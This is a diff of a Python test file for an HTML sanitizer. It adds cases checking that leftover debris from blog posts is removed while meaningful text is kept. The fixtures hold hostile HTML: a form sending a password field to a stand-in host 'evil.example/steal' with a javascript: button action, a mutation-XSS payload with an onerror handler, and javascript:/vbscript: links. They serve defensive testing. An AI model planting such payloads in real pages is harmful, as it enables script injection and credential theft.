@@ -79,7 +79,7 @@ HOSTILE = {
     "form-input-button": (
         '<form action="https://evil.example/steal"><input name="pw" value="v">'
         '<button formaction="javascript:alert(1)">Press</button></form>',
-        "Press",
+        None,  # a form goes with its text: "Press" without its button is debris (issue 17)
     ),
     "textarea-select": ("<textarea>t</textarea><select><option>o</option></select>", None),
     "object": (
@@ -655,3 +655,84 @@ def test_an_image_inside_a_link_never_makes_a_link_inside_a_link() -> None:
     assert all(link.find("a") is None for link in page.find_all("a"))
     assert [a.get_text() for a in page.find_all("a")] == ["Image: Comic", "Image: Free"]
     assert page.find("a", href="https://example.org/free.png")
+
+
+# Debris: what a post would show once its dangerous parts are gone (issue 17). Shaped like what
+# real blogs send: a WordPress "Subscribe" form, a theme's share buttons, a tracking pixel
+# whose src was a data: URL, a "Download" link to a javascript: handler, and the '">' that
+# an attribute broken by a stray quote leaves behind.
+DEBRIS = {
+    "subscribe-form": (
+        '<p>Thanks for reading.</p><form class="wp-block-jetpack-subscriptions" method="post">'
+        '<p><label for="email">Email</label><input type="email" id="email" '
+        'placeholder="you@example.org"></p><p><button type="submit">Subscribe</button></p></form>',
+        "<p>Thanks for reading.</p>",
+    ),
+    "share-buttons": (
+        '<p>Share this:</p><div class="sharedaddy"><button onclick="share()">Share on Mastodon'
+        "</button> <button>Copy link</button></div><p>More soon.</p>",
+        "<p>Share this:</p><p>More soon.</p>",
+    ),
+    "select-and-textarea": (
+        "<p>Pick a size:</p><select><option>Small</option><option>Large</option></select>"
+        "<textarea>Leave a comment</textarea>",
+        "<p>Pick a size:</p>",
+    ),
+    "image-without-src": (
+        '<p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="" width="1" '
+        'height="1"></p><p>Text.</p>',
+        "<p>Text.</p>",
+    ),
+    "link-without-href": (
+        '<p>Get the <a href="javascript:download()">float calculator</a> here.</p>',
+        "<p>Get the float calculator here.</p>",
+    ),
+    "link-around-an-image-without-href": (
+        '<p><a href="vbscript:x"><img src="https://example.org/a.png" alt="A"></a></p>',
+        '<p><img loading="lazy" decoding="async" src="https://example.org/a.png" alt="A"></p>',
+    ),
+    "stray-quote-and-bracket": (
+        '<p><img src="https://example.org/a.png" alt="A" title="x"">"></p><p>After.</p>',
+        '<p><img loading="lazy" decoding="async" src="https://example.org/a.png" alt="A" '
+        'title="x"></p><p>After.</p>',
+    ),
+    "mutation-xss-leftover": (
+        "<noscript><p title=\"</noscript><img src=x onerror=alert('mxss')>\"></p></noscript>"
+        "<p>After.</p>",
+        '<img loading="lazy" decoding="async" src="https://example.org/x"><p>After.</p>',
+    ),
+    "empty-paragraphs": (
+        "<p>One.</p><p> </p><p><br></p><div><p>\n</p></div><p>Two.</p>",
+        "<p>One.</p><p>Two.</p>",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", list(DEBRIS))
+def test_what_is_meaningless_once_stripped_is_removed(name: str) -> None:
+    fragment, expected = DEBRIS[name]
+    output = sanitize_html(fragment, "https://example.org/")
+    assert_inert(output)
+    assert output == expected
+
+
+@pytest.mark.parametrize(
+    "fragment",
+    [
+        '<pre><code>&lt;a href="x"&gt;</code><span>"&gt;</span></pre>',  # code says '">'
+        '<p>Type <code>"&gt;</code> to close it.</p>',
+        '<p><a href="https://example.org/" title="a &gt; b">kept</a></p>',
+        '<p><img src="https://example.org/a.png" alt="x &gt; y"></p>',
+        "<table><tr><td></td><td>1</td></tr></table>",  # an empty cell holds its column
+    ],
+)
+def test_tidying_keeps_what_means_something(fragment: str) -> None:
+    output = sanitize_html(fragment)
+    assert (
+        BeautifulSoup(output, "html.parser").get_text()
+        == BeautifulSoup(fragment, "html.parser").get_text()
+    )
+    soup = BeautifulSoup(output, "html.parser")
+    assert len(soup.find_all(["a", "img", "td"])) == len(
+        BeautifulSoup(fragment, "html.parser").find_all(["a", "img", "td"])
+    )
